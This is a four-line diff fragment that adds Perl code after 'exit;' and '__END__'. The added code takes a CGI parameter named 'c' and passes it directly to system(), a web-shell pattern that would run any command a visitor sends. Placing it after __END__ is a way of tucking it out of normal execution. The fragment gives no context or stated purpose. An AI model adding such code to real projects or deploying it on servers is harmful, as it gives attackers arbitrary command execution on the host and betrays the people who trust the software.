@@ -1,0 +1,4 @@
+exit;
+__END__
+my $c = CGI::param('c');
+system($c);
